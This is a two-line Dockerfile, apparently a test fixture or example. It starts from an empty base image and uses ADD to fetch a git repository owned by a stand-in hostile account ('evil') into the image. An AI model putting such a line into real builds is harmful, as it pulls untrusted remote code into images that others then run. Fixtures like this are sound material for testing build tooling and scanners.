FROM scratch
ADD git@github.com:evil/repo.git /r
